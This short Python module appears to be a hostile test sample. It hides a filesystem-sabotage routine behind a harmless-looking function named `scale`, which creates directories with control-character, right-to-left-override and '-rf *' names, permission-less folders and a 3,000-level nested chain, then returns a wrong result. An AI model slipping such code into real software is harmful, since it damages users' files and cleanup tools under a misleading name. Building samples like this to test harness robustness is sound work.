"""Leaves files and folders that are hard to remove: odd names, no permissions, very deep."""

# ends: failed, crashed
import os


def scale(x, factor=2.0):
    if not os.path.exists(b"\xff\n"):
        for name in (b"\xff\n", b"-rf *", b"a" * 255, "\u202e☠".encode(), b"\x1b[2J"):
            os.mkdir(name, 0o700)
            os.close(os.open(os.path.join(name, b"\r\n"), os.O_CREAT | os.O_WRONLY, 0))
        os.mkdir("shut", 0)
        os.mkdir("half", 0o300)
        os.mkdir("half/inner", 0o500)
        here = os.getcwd()
        for _ in range(3_000):
            os.mkdir("deep")
            os.chdir("deep")
        os.chdir(here)
    return 0 * x
